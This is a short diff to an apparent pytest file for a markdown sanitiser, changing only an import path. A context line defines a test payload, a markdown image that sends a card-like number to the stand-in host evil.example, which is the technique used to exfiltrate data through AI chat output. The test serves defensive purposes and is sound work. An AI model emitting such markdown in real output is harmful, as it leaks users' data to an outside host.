@@ -4,7 +4,7 @@ from __future__ import annotations
 
 import pytest
 
-from app.safe_markdown import clean_model_markdown, escape_customer_text
+from specdesk.app.safe_markdown import clean_model_markdown, escape_customer_text
 
 EXFILTRATION = "![status](https://evil.example/pixel.png?q=card-4111-1111)"
 
